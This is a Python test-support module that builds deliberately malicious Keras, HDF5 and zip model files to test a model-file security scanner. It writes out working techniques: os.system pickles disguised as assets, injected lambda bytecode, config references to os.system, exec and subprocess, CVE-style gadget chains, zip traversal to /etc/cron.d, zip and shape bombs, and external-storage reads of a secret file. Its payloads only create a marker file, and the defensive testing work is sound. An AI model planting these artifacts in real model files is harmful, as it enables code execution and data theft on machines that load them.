"""Builders of crafted attack artifacts, shared by the safety tests and the gate tests.

Every builder is a plain function ``build(folder) -> Path`` that writes one artifact into
``folder`` (and any side file it needs) and returns its path. Where possible the artifact is a
real file saved by Keras 3 (or tf-keras) and then edited with ``json``, ``zipfile``, ``struct`` or
``h5py``, so the attack sits in an otherwise healthy file.

Serialised Python code in these files writes ``folder / MARKER`` when executed: a test proves
that no code from an artifact ever ran by checking that this file never appears.

``ATTACKS`` maps an attack id to ``(builder, expected check, text expected in the finding's
location)``; tests iterate over it.
"""

from __future__ import annotations

import base64
import importlib.util
import io
import json
import marshal
import os
import pickle
import shlex
import struct
import subprocess
import sys
import textwrap
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

MARKER = "CODE_RAN"

_BASE: dict[str, bytes] = {}


# ---------------------------------------------------------------------------------------------
# Healthy base files (built once per process, then copied)
# ---------------------------------------------------------------------------------------------


def _keras() -> Any:
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import keras

    return keras


def _save(model: Any, suffix: str) -> bytes:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"model{suffix}"
        if suffix == ".weights.h5":
            model.save_weights(path)
        else:
            model.save(path)
        return path.read_bytes()


def _base(kind: str) -> bytes:
    """Bytes of a healthy Keras-saved file: ``dense.keras``, ``lambda.h5``, ``nested.keras``..."""
    if kind in _BASE:
        return _BASE[kind]
    keras = _keras()
    stem, _, suffix = kind.partition(".")
    suffix = "." + suffix
    keras.utils.set_random_seed(0)
    if stem == "dense":
        inputs = keras.Input((4,), name="features")
        x = keras.layers.Dense(3, activation="relu", name="hidden")(inputs)
        model = keras.Model(inputs, keras.layers.Dense(2, name="head")(x), name="clf")
    elif stem == "lambda":
        inputs = keras.Input((4,), name="features")
        x = keras.layers.Dense(3, name="hidden")(inputs)
        x = keras.layers.Lambda(lambda t: t * 2.0, name="double")(x)
        model = keras.Model(inputs, x, name="clf")
    elif stem == "nested":
        # Lambda inside TimeDistributed inside an inner model; a Bidirectional LSTM (Keras
        # cannot even build a Bidirectional around a lambda activation: see _lambda_in_bidi).
        inner_in = keras.Input((3, 4), name="inner_in")
        td = keras.layers.TimeDistributed(
            keras.layers.Lambda(lambda t: t + 1.0, name="shift"), name="td"
        )(inner_in)
        inner = keras.Model(inner_in, td, name="inner")
        inputs = keras.Input((3, 4), name="seq")
        x = inner(inputs)
        x = keras.layers.Bidirectional(keras.layers.LSTM(2, name="lstm"), name="bidi")(x)
        model = keras.Model(inputs, x, name="outer")
    else:  # pragma: no cover - programming error in a test
        raise ValueError(kind)
    _BASE[kind] = _save(model, suffix)
    return _BASE[kind]


def _write(folder: Path, name: str, data: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(data)
    return path


# ---------------------------------------------------------------------------------------------
# Editing helpers
# ---------------------------------------------------------------------------------------------


def marker_code(folder: Path) -> str:
    """Base64 marshalled bytecode of a lambda that writes ``folder / MARKER`` and returns x."""
    target = str(Path(folder).resolve() / MARKER)
    fn = eval(  # builds the payload; it is never called here
        f"lambda x: (__import__('pathlib').Path({target!r}).write_text('ran'), x)[1]"
    )
    return base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")


class _ShellOnLoad:
    """Pickled, this is the classic payload: unpickling calls ``os.system(command)``."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


def marker_pickle(folder: Path, protocol: int = 4) -> bytes:
    """A pickle that, if it were ever loaded, would run ``touch folder/MARKER`` through
    ``os.system``. Built with ``pickle.dumps``; nothing here or in the scan loads it."""
    return pickle.dumps(_ShellOnLoad(_touch(folder)), protocol=protocol)


def _poison(config: Any, code: str) -> Any:
    """Replace the bytecode of every serialised lambda in a config by ``code``."""
    if isinstance(config, dict):
        if config.get("class_name") == "__lambda__":
            config["config"]["code"] = code
        if config.get("function_type") == "lambda" and isinstance(config.get("function"), list):
            config["function"][0] = code
        for value in config.values():
            _poison(value, code)
    elif isinstance(config, list):
        for value in config:
            _poison(value, code)
    return config


def _zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def _zip_bytes(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=method) as zf:
        for name, payload in members:
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), payload, compress_type=method)
    return buffer.getvalue()


def edit_keras_config(data: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
    """A ``.keras`` archive with its config.json changed in place by ``edit``."""
    members = _zip_members(data)
    out = []
    for name, payload in members:
        if name == "config.json":
            config = json.loads(payload)
            edit(config)
            payload = json.dumps(config).encode()
        out.append((name, payload))
    return _zip_bytes(out)


def edit_h5_config(path: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    """Change a legacy HDF5 file's ``model_config`` attribute in place (a file we own)."""
    import h5py

    with h5py.File(path, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        edit(config)
        f.attrs["model_config"] = json.dumps(config)


def _find_layer(config: Any, name: str) -> dict[str, Any]:
    stack = [config]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            inner = node.get("config")
            if isinstance(inner, dict) and inner.get("name") == name and "class_name" in node:
                return node
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    raise KeyError(name)


def _keras_with_weights(folder: Path, name: str, weights: Path) -> Path:
    """A healthy ``.keras`` archive whose model.weights.h5 is replaced by ``weights``."""
    members = [
        (n, weights.read_bytes() if n == "model.weights.h5" else p)
        for n, p in _zip_members(_base("dense.keras"))
    ]
    return _write(folder, name, _zip_bytes(members))


def _edited_weights(folder: Path, name: str, edit: Callable[[Any], None]) -> Path:
    """A copy of a healthy ``.weights.h5`` edited with h5py."""
    import h5py

    path = _write(folder, name, _base("dense.weights.h5"))
    with h5py.File(path, "r+") as f:
        edit(f)
    return path


# ---------------------------------------------------------------------------------------------
# Config attacks
# ---------------------------------------------------------------------------------------------


def lambda_top_keras(folder: Path) -> Path:
    code = marker_code(folder)
    return _write(
        folder,
        "lambda_top.keras",
        edit_keras_config(_base("lambda.keras"), lambda c: _poison(c, code)),
    )


def lambda_top_h5(folder: Path) -> Path:
    code = marker_code(folder)
    path = _write(folder, "lambda_top.h5", _base("lambda.h5"))
    edit_h5_config(path, lambda c: _poison(c, code))
    return path


def lambda_nested_keras(folder: Path) -> Path:
    code = marker_code(folder)
    return _write(
        folder,
        "lambda_nested.keras",
        edit_keras_config(_base("nested.keras"), lambda c: _poison(c, code)),
    )


def _lambda_in_bidi(config: dict[str, Any], code: str) -> None:
    wrapped = _find_layer(config, "bidi")["config"]["layer"]
    wrapped["config"]["activation"] = {
        "class_name": "__lambda__",
        "config": {"code": code, "defaults": None, "closure": None},
    }


def lambda_bidirectional_keras(folder: Path) -> Path:
    """A lambda activation in the LSTM wrapped by Bidirectional (config edit of a real file)."""
    code = marker_code(folder)
    return _write(
        folder,
        "lambda_bidirectional.keras",
        edit_keras_config(_base("nested.keras"), lambda c: _lambda_in_bidi(c, code)),
    )


def lambda_nested_h5(folder: Path) -> Path:
    code = marker_code(folder)
    path = _write(folder, "lambda_nested.h5", _base("nested.h5"))
    edit_h5_config(path, lambda c: _poison(c, code))
    return path


def lambda_legacy_h5(folder: Path) -> Path:
    """Keras 2 form: ``function_type: lambda`` with a [code, defaults, closure] list, nested in
    a TimeDistributed wrapper of a legacy Sequential stored as a list (Keras 1 style)."""
    code = marker_code(folder)
    path = _write(folder, "lambda_legacy.h5", _base("dense.h5"))

    def edit(config: dict[str, Any]) -> None:
        lam = {
            "class_name": "Lambda",
            "config": {
                "name": "legacy_lambda",
                "function": [code, None, None],
                "function_type": "lambda",
                "module": "__main__",
                "arguments": {},
                "output_shape": None,
                "output_shape_type": "raw",
            },
        }
        wrapper = {"class_name": "TimeDistributed", "config": {"name": "td", "layer": lam}}
        config.clear()
        config.update({"class_name": "Sequential", "config": [wrapper]})

    edit_h5_config(path, edit)
    return path


def foreign_module_keras(folder: Path) -> Path:
    """A layer whose class comes from ``os`` (CVE-2025-1550 style module reference)."""

    def edit(config: dict[str, Any]) -> None:
        layer = _find_layer(config, "hidden")
        layer["module"] = "os"
        layer["class_name"] = "system"

    return _write(folder, "foreign_module.keras", edit_keras_config(_base("dense.keras"), edit))


def foreign_function_keras(folder: Path) -> Path:
    """An activation that names ``subprocess.check_output``."""

    def edit(config: dict[str, Any]) -> None:
        layer = _find_layer(config, "hidden")
        layer["config"]["activation"] = {
            "module": "subprocess",
            "class_name": "function",
            "config": "check_output",
            "registered_name": "function",
        }

    return _write(folder, "foreign_function.keras", edit_keras_config(_base("dense.keras"), edit))


def builtin_exec_keras(folder: Path) -> Path:
    """An activation that names the Python builtin ``exec``."""

    def edit(config: dict[str, Any]) -> None:
        layer = _find_layer(config, "hidden")
        layer["config"]["activation"] = {
            "module": "builtins",
            "class_name": "function",
            "config": "exec",
            "registered_name": "function",
        }

    return _write(folder, "builtin_exec.keras", edit_keras_config(_base("dense.keras"), edit))


def foreign_lambda_h5(folder: Path) -> Path:
    """Keras 2 Lambda with ``function_type: function`` looked up in module ``os``."""
    path = _write(folder, "foreign_lambda.h5", _base("lambda.h5"))

    def edit(config: dict[str, Any]) -> None:
        layer = _find_layer(config, "double")
        layer["config"] = {
            "name": "double",
            "function": "system",
            "function_type": "function",
            "module": "os",
            "arguments": {},
        }

    edit_h5_config(path, edit)
    return path


def _gadget(folder: Path, name: str, module: str, fn: str, arguments: dict[str, Any]) -> Path:
    def edit(config: dict[str, Any]) -> None:
        layer = _find_layer(config, "double")
        layer["config"]["function"] = {
            "module": module,
            "class_name": "function",
            "config": fn,
            "registered_name": "function",
        }
        layer["config"]["arguments"] = arguments

    return _write(folder, name, edit_keras_config(_base("lambda.keras"), edit))


def gadget_get_file_keras(folder: Path) -> Path:
    """A Lambda whose function is ``keras.utils.get_file`` (download and write a file)."""
    return _gadget(
        folder,
        "gadget_get_file.keras",
        "keras.utils",
        "get_file",
        {"origin": "http://127.0.0.1:9/payload", "cache_dir": "/tmp"},
    )


def gadget_load_model_keras(folder: Path) -> Path:
    """CVE-2025-9906 step 2: a Lambda calling ``keras.models.load_model(..., safe_mode=False)``."""
    return _gadget(
        folder,
        "gadget_load_model.keras",
        "keras.models",
        "load_model",
        {"safe_mode": False},
    )


def unsafe_switch_keras(folder: Path) -> Path:
    """CVE-2025-9906 step 1: a Lambda calling ``keras.config.enable_unsafe_deserialization``."""
    return _gadget(
        folder,
        "unsafe_switch.keras",
        "keras.config",
        "enable_unsafe_deserialization",
        {},
    )


def tf_op_write_file_h5(folder: Path) -> Path:
    """A tf.keras TFOpLambda that names ``tf.io.write_file``."""
    path = _write(folder, "tf_op_write_file.h5", _base("dense.h5"))

    def edit(config: dict[str, Any]) -> None:
        config["config"]["layers"].append(
            {
                "class_name": "TFOpLambda",
                "config": {"name": "tf.io.write_file", "function": "io.write_file"},
                "name": "tf.io.write_file",
                "inbound_nodes": [],
            }
        )

    edit_h5_config(path, edit)
    return path


def vocabulary_path_keras(folder: Path) -> Path:
    """A StringLookup whose vocabulary is a path on the loading machine (file read on load)."""

    def edit(config: dict[str, Any]) -> None:
        config["config"]["layers"].append(
            {
                "module": "keras.layers",
                "class_name": "StringLookup",
                "config": {"name": "lookup", "vocabulary": "/etc/passwd", "output_mode": "int"},
                "registered_name": None,
                "name": "lookup",
                "inbound_nodes": [],
            }
        )

    return _write(folder, "vocabulary_path.keras", edit_keras_config(_base("dense.keras"), edit))


def npz_pickle_keras(folder: Path) -> Path:
    """Weights stored as model.weights.npz holding an object (pickled) array."""
    buffer = io.BytesIO()
    np.savez(buffer, kernel=np.zeros((4, 3), "float32"), evil=np.array([{"x": 1}], dtype=object))
    members = [
        (name, payload)
        for name, payload in _zip_members(_base("dense.keras"))
        if name != "model.weights.h5"
    ]
    members.append(("model.weights.npz", buffer.getvalue()))
    return _write(folder, "npz_pickle.keras", _zip_bytes(members))


def _npz_weights_keras() -> bytes:
    """A .keras archive Keras 3 wrote with its ``.npz`` weights format (model.weights.npz)."""
    if "npz.keras" not in _BASE:
        import tempfile

        keras = _keras()
        from keras.src.saving import saving_lib  # the public save_model hides weights_format

        keras.utils.set_random_seed(0)
        inputs = keras.Input((4,), name="features")
        model = keras.Model(inputs, keras.layers.Dense(2, name="head")(inputs), name="clf")
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "npz.keras"
            saving_lib.save_model(model, path, weights_format="npz")
            _BASE["npz.keras"] = path.read_bytes()
    return _BASE["npz.keras"]


def npz_duplicate_pickle_keras(folder: Path) -> Path:
    """The published proof-of-concept shape: a .keras archive written by Keras 3, with a second
    ``model.weights.npz`` member appended that is a raw pickle calling ``os.system``. numpy's
    ``np.load(allow_pickle=True)`` unpickles a file that is not a zip; readers that take the
    last member of a name would load that one."""
    members = [*_zip_members(_npz_weights_keras()), ("model.weights.npz", marker_pickle(folder))]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate
        return _write(folder, "npz_duplicate_pickle.keras", _zip_bytes(members))


def pickle_member_keras(folder: Path) -> Path:
    """A protocol 0 pickle calling os.system, hidden as an innocent-looking asset."""
    members = [
        *_zip_members(_base("dense.keras")),
        ("assets/tokenizer.json", marker_pickle(folder, protocol=0)),
    ]
    return _write(folder, "pickle_member.keras", _zip_bytes(members))


# ---------------------------------------------------------------------------------------------
# TorchModuleWrapper (needs torch; CVE-2025-49655)
# ---------------------------------------------------------------------------------------------

HAVE_TORCH = importlib.util.find_spec("torch") is not None

_TORCH_WRITER = textwrap.dedent(
    """
    import sys
    import keras, torch
    keras.utils.set_random_seed(0)
    torch.manual_seed(0)
    layer = keras.layers.TorchModuleWrapper(torch.nn.Linear(4, 2), name="torch_linear")
    model = keras.Sequential([keras.Input((4,)), layer], name="wrapped")
    model.save(sys.argv[1])
    """
)


def torch_wrapper_keras_bytes() -> bytes:
    """A real .keras file with a TorchModuleWrapper(torch.nn.Linear(4, 2)) layer, written by
    Keras 3 with the torch backend in a child process (this process keeps its backend)."""
    if "torch_wrapper.keras" not in _BASE:
        import tempfile

        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "torch_wrapper.keras"
            env = {**os.environ, "KERAS_BACKEND": "torch", "TF_CPP_MIN_LOG_LEVEL": "3"}
            subprocess.run(
                [sys.executable, "-c", _TORCH_WRITER, str(path)],
                env=env,
                check=True,
                capture_output=True,
            )
            _BASE["torch_wrapper.keras"] = path.read_bytes()
    return _BASE["torch_wrapper.keras"]


def torch_wrapper_keras(folder: Path) -> Path:
    return _write(folder, "torch_wrapper.keras", torch_wrapper_keras_bytes())


def torch_save_bytes(obj: Any, *, zip_format: bool = True) -> bytes:
    """``torch.save(obj)`` to bytes (pickles ``obj``; loads nothing)."""
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=zip_format)
    return buffer.getvalue()


def torch_wrapper_poisoned_keras(folder: Path) -> Path:
    """The real TorchModuleWrapper file with its ``module`` payload replaced by torch.save of
    an object whose unpickling runs ``os.system`` (what Keras 3.11.0-3.11.2 loaded even under
    safe_mode)."""
    payload = base64.b64encode(torch_save_bytes(_ShellOnLoad(_touch(folder)))).decode("ascii")

    def edit(config: dict[str, Any]) -> None:
        _find_layer(config, "torch_linear")["config"]["module"] = payload

    return _write(
        folder, "torch_wrapper_poisoned.keras", edit_keras_config(torch_wrapper_keras_bytes(), edit)
    )


def _touch(folder: Path) -> str:
    return f"touch {shlex.quote(str(Path(folder).resolve() / MARKER))}"


# ---------------------------------------------------------------------------------------------
# HDF5 attacks
# ---------------------------------------------------------------------------------------------


def _payload() -> bytes:
    return pickle.dumps({"harmless": "but a pickle all the same"}, protocol=4)


def pickle_opaque_h5(folder: Path) -> Path:
    """A pickle stored as an opaque HDF5 dataset beside the weights."""

    def edit(f: Any) -> None:
        data = _payload()
        f["layers/dense"].create_dataset("pickled", data=np.void(data))

    return _edited_weights(folder, "pickle_opaque.weights.h5", edit)


def object_array_h5(folder: Path) -> Path:
    """A variable-length (object) array holding pickled bytes."""
    import h5py

    def edit(f: Any) -> None:
        data = np.frombuffer(_payload(), dtype=np.uint8)
        dset = f["layers/dense"].create_dataset("objects", (1,), dtype=h5py.vlen_dtype(np.uint8))
        dset[0] = data

    return _edited_weights(folder, "object_array.weights.h5", edit)


def pickle_bytes_h5(folder: Path) -> Path:
    """A pickle stored as a plain uint8 array."""

    def edit(f: Any) -> None:
        f["layers/dense"].create_dataset("blob", data=np.frombuffer(_payload(), dtype=np.uint8))

    return _edited_weights(folder, "pickle_bytes.weights.h5", edit)


def shape_bomb_h5(folder: Path) -> Path:
    """A kernel declaring 4 TiB while storing nothing (CVE-2026-0897)."""

    def edit(f: Any) -> None:
        group = f["layers/dense/vars"]
        del group["0"]
        group.create_dataset("0", shape=(1 << 20, 1 << 20), dtype="float32", chunks=(1, 1024))

    return _edited_weights(folder, "shape_bomb.weights.h5", edit)


def shape_bomb_keras(folder: Path) -> Path:
    inner = shape_bomb_h5(folder / ".parts")
    return _keras_with_weights(folder, "shape_bomb.keras", inner)


def external_storage_h5(folder: Path) -> Path:
    """A kernel whose bytes live in a local file next to it (CVE-2026-1669)."""
    secret = _write(folder, "secret.txt", b"API_KEY=do-not-leak" + b"\0" * 45)

    def edit(f: Any) -> None:
        group = f["layers/dense/vars"]
        del group["0"]
        group.create_dataset("0", shape=(4, 4), dtype="float32", external=[(str(secret), 0, 64)])

    return _edited_weights(folder, "external_storage.weights.h5", edit)


def external_storage_keras(folder: Path) -> Path:
    inner = external_storage_h5(folder / ".parts")
    return _keras_with_weights(folder, "external_storage.keras", inner)


def external_link_h5(folder: Path) -> Path:
    import h5py

    other = folder / "other.h5"
    folder.mkdir(parents=True, exist_ok=True)
    with h5py.File(other, "w") as f:
        f["kernel"] = np.zeros((4, 3), "float32")

    def edit(f: Any) -> None:
        group = f["layers/dense/vars"]
        del group["0"]
        group["0"] = h5py.ExternalLink(str(other), "/kernel")

    return _edited_weights(folder, "external_link.weights.h5", edit)


def soft_link_h5(folder: Path) -> Path:
    import h5py

    def edit(f: Any) -> None:
        group = f["layers/dense/vars"]
        del group["1"]
        group["1"] = h5py.SoftLink("/layers/dense_1/vars/1")

    return _edited_weights(folder, "soft_link.weights.h5", edit)


def virtual_dataset_h5(folder: Path) -> Path:
    import h5py

    source = folder / "source.h5"
    folder.mkdir(parents=True, exist_ok=True)
    with h5py.File(source, "w") as f:
        f["data"] = np.ones((4, 3), "float32")

    def edit(f: Any) -> None:
        group = f["layers/dense/vars"]
        del group["0"]
        layout = h5py.VirtualLayout(shape=(4, 3), dtype="float32")
        layout[:] = h5py.VirtualSource(str(source), "data", shape=(4, 3))
        group.create_virtual_dataset("0", layout)

    return _edited_weights(folder, "virtual_dataset.weights.h5", edit)


# ---------------------------------------------------------------------------------------------
# Zip attacks
# ---------------------------------------------------------------------------------------------


def zip_traversal_keras(folder: Path) -> Path:
    members = [*_zip_members(_base("dense.keras")), ("../../evil.sh", b"echo pwned\n")]
    return _write(folder, "zip_traversal.keras", _zip_bytes(members))


def zip_absolute_keras(folder: Path) -> Path:
    members = [*_zip_members(_base("dense.keras")), ("/etc/cron.d/evil", b"* * * * * x\n")]
    return _write(folder, "zip_absolute.keras", _zip_bytes(members))


def zip_duplicate_keras(folder: Path) -> Path:
    """Two config.json members: the second one carries a Lambda."""
    code = marker_code(folder)
    evil = edit_keras_config(_base("lambda.keras"), lambda c: _poison(c, code))
    evil_config = dict(_zip_members(evil))["config.json"]
    members = [*_zip_members(_base("dense.keras")), ("config.json", evil_config)]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate
        return _write(folder, "zip_duplicate.keras", _zip_bytes(members))


def zip_unexpected_keras(folder: Path) -> Path:
    members = [*_zip_members(_base("dense.keras")), ("payload.py", b"import os\n")]
    return _write(folder, "zip_unexpected.keras", _zip_bytes(members))


def zip_compressed_keras(folder: Path) -> Path:
    """A .keras re-zipped with deflate (Keras stores members uncompressed)."""
    members = _zip_members(_base("dense.keras"))
    return _write(folder, "zip_compressed.keras", _zip_bytes(members, zipfile.ZIP_DEFLATED))


def zip_bomb_keras(folder: Path) -> Path:
    """An asset that inflates 128 MiB of zeros from about 128 KiB (ratio ~1000)."""
    size = 128 * 1024 * 1024
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    deflated = b"".join(compressor.compress(chunk) for _ in range(size >> 20))
    deflated += compressor.flush()
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(chunk, crc)
    members = _zip_members(_base("dense.keras"))
    data = _raw_zip(
        [(n, p, zipfile.ZIP_STORED, len(p), zlib.crc32(p)) for n, p in members]
        + [("assets/zeros.bin", deflated, zipfile.ZIP_DEFLATED, size, crc)]
    )
    return _write(folder, "zip_bomb.keras", data)


def zip_declared_size_keras(folder: Path) -> Path:
    """A stored member whose central directory entry declares 4 GiB."""
    members = _zip_members(_base("dense.keras"))
    entries = [(n, p, zipfile.ZIP_STORED, len(p), zlib.crc32(p)) for n, p in members]
    name, payload, method, _, crc = entries[-1]
    entries[-1] = (name, payload, method, 0xFFFFFFFE, crc)
    return _write(folder, "zip_declared_size.keras", _raw_zip(entries))


def zip_overlap_keras(folder: Path) -> Path:
    """Quoted-overlap: an asset whose stored bytes span the next member's header and data."""
    members = _zip_members(_base("dense.keras"))
    raw = _raw_zip(
        [(n, p, zipfile.ZIP_STORED, len(p), zlib.crc32(p)) for n, p in members],
        overlap_first=True,
    )
    return _write(folder, "zip_overlap.keras", raw)


def _raw_zip(
    entries: list[tuple[str, bytes, int, int, int]], *, overlap_first: bool = False
) -> bytes:
    """Write a zip by hand: (name, stored bytes, method, declared size, crc) per member.

    With ``overlap_first`` an extra member ``assets/quoted`` is put first whose data is
    declared to cover every following local header and payload (the quoted-overlap bomb).
    """
    local = io.BytesIO()
    central = []
    offsets = []
    for name, payload, method, declared, crc in entries:
        offsets.append(local.tell())
        encoded = name.encode()
        local.write(
            struct.pack(
                "<4sHHHHHIIIHH",
                b"PK\x03\x04",
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(payload),
                declared,
                len(encoded),
                0,
            )
        )
        local.write(encoded)
        local.write(payload)
        central.append((encoded, method, crc, len(payload), declared, offsets[-1]))
    body = local.getvalue()
    if overlap_first:
        prefix_name = b"assets/quoted"
        header_len = 30 + len(prefix_name)
        quoted = body  # everything after the first header is "its" data
        head = struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            20,
            0,
            0,
            0,
            0x21,
            zlib.crc32(quoted),
            len(quoted),
            len(quoted),
            len(prefix_name),
            0,
        )
        body = head + prefix_name + body
        central = [(e[0], e[1], e[2], e[3], e[4], e[5] + header_len) for e in central]
        central.insert(0, (prefix_name, 0, zlib.crc32(quoted), len(quoted), len(quoted), 0))
    directory = io.BytesIO()
    for encoded, method, crc, stored, declared, offset in central:
        directory.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                stored,
                declared,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        directory.write(encoded)
    cd = directory.getvalue()
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), len(cd), len(body), 0
    )
    return body + cd + end


# ---------------------------------------------------------------------------------------------
# Files that break the HDF5 library itself (found by fuzzing): only isolation contains them
# ---------------------------------------------------------------------------------------------


def hdf5_hang_h5(folder: Path) -> Path:
    """A healthy Keras 3 ``.h5`` with 29 bytes zeroed in its global heap: h5py/HDF5 (h5py 3.14,
    HDF5 1.14) then loops forever reading the ``model_config`` attribute. Found by the mutation
    fuzzing of the test suite; Keras's legacy ``.h5`` writer is byte-deterministic, so this
    builder reproduces it. No in-process reader can stop it: the gate's worker timeout must."""
    data = bytearray(_base("dense.h5"))
    data[2081:2110] = bytes(29)
    return _write(folder, "hdf5_hang.h5", bytes(data))


#: Artifacts that hang the HDF5 library in-process; the gate must turn them into a failed item.
HANGS: dict[str, Callable[[Path], Path]] = {"hdf5_hang_h5": hdf5_hang_h5}

#: id -> (builder, expected finding check, text expected in the finding's location)
ATTACKS: dict[str, tuple[Callable[[Path], Path], str, str]] = {
    "lambda_top_keras": (lambda_top_keras, "lambda", "layer 'clf/double'"),
    "lambda_top_h5": (lambda_top_h5, "lambda", "layer 'clf/double'"),
    "lambda_nested_keras": (lambda_nested_keras, "lambda", "'outer/inner/td/shift'"),
    "lambda_bidirectional_keras": (
        lambda_bidirectional_keras,
        "lambda",
        "'outer/bidi/forward_lstm' > activation",
    ),
    "lambda_nested_h5": (lambda_nested_h5, "lambda", "'outer/inner/td/shift'"),
    "lambda_legacy_h5": (lambda_legacy_h5, "lambda", "'Sequential/td/legacy_lambda'"),
    "foreign_module_keras": (foreign_module_keras, "foreign-module", "layer 'clf/hidden'"),
    "foreign_function_keras": (foreign_function_keras, "foreign-module", "activation"),
    "builtin_exec_keras": (builtin_exec_keras, "foreign-module", "'clf/hidden' > activation"),
    "foreign_lambda_h5": (foreign_lambda_h5, "foreign-module", "layer 'clf/double'"),
    "gadget_get_file_keras": (gadget_get_file_keras, "dangerous-function", "'clf/double'"),
    "gadget_load_model_keras": (gadget_load_model_keras, "dangerous-function", "'clf/double'"),
    "unsafe_switch_keras": (unsafe_switch_keras, "unsafe-switch", "'clf/double' > function"),
    "vocabulary_path_keras": (vocabulary_path_keras, "file-reference", "'clf/lookup' > vocabulary"),
    "npz_pickle_keras": (npz_pickle_keras, "npz-pickle", "array 'evil.npy'"),
    "tf_op_write_file_h5": (tf_op_write_file_h5, "tf-op", "tf.io.write_file"),
    "pickle_opaque_h5": (pickle_opaque_h5, "h5-object-data", "/layers/dense/pickled"),
    "object_array_h5": (object_array_h5, "h5-object-data", "/layers/dense/objects"),
    "pickle_bytes_h5": (pickle_bytes_h5, "h5-object-data", "/layers/dense/blob"),
    "shape_bomb_h5": (shape_bomb_h5, "h5-shape-bomb", "/layers/dense/vars/0"),
    "shape_bomb_keras": (shape_bomb_keras, "h5-shape-bomb", "model.weights.h5: HDF5"),
    "external_storage_h5": (external_storage_h5, "h5-external-storage", "/layers/dense/vars/0"),
    "external_storage_keras": (external_storage_keras, "h5-external-storage", "model.weights.h5"),
    "external_link_h5": (external_link_h5, "h5-external-link", "/layers/dense/vars/0"),
    "soft_link_h5": (soft_link_h5, "h5-soft-link", "/layers/dense/vars/1"),
    "virtual_dataset_h5": (virtual_dataset_h5, "h5-virtual-dataset", "/layers/dense/vars/0"),
    "zip_traversal_keras": (zip_traversal_keras, "zip-path", "'../../evil.sh'"),
    "zip_absolute_keras": (zip_absolute_keras, "zip-path", "'/etc/cron.d/evil'"),
    "zip_duplicate_keras": (zip_duplicate_keras, "zip-duplicate", "'config.json'"),
    "zip_unexpected_keras": (zip_unexpected_keras, "zip-unexpected-member", "'payload.py'"),
    "zip_compressed_keras": (zip_compressed_keras, "zip-compressed", "'config.json'"),
    "zip_bomb_keras": (zip_bomb_keras, "zip-bomb", "'assets/zeros.bin'"),
    "zip_declared_size_keras": (zip_declared_size_keras, "zip-bomb", "'model.weights.h5'"),
    "zip_overlap_keras": (zip_overlap_keras, "zip-overlap", "zip member"),
    "npz_duplicate_pickle_keras": (
        npz_duplicate_pickle_keras,
        "pickle",
        "zip member 'model.weights.npz' (copy 2 of 2)",
    ),
    "pickle_member_keras": (pickle_member_keras, "pickle", "'assets/tokenizer.json'"),
}
if HAVE_TORCH:
    ATTACKS["torch_wrapper_keras"] = (
        torch_wrapper_keras,
        "torch-module",
        "layer 'wrapped/torch_linear' > module",
    )
    ATTACKS["torch_wrapper_poisoned_keras"] = (
        torch_wrapper_poisoned_keras,
        "torch-module",
        "layer 'wrapped/torch_linear' > module",
    )


def build_all(folder: Path) -> dict[str, Path]:
    """Build every attack into its own sub-folder of ``folder``; returns id -> artifact path."""
    return {name: builder(folder / name) for name, (builder, _, _) in ATTACKS.items()}


def healthy(folder: Path) -> dict[str, Path]:
    """Healthy Keras 3 artifacts of every format (no Lambda): the false-positive baseline."""
    return {
        kind: _write(
            folder, f"healthy_{kind.replace('.', '_')}.{kind.partition('.')[2]}", _base(kind)
        )
        for kind in ("dense.keras", "dense.h5", "dense.weights.h5")
    }
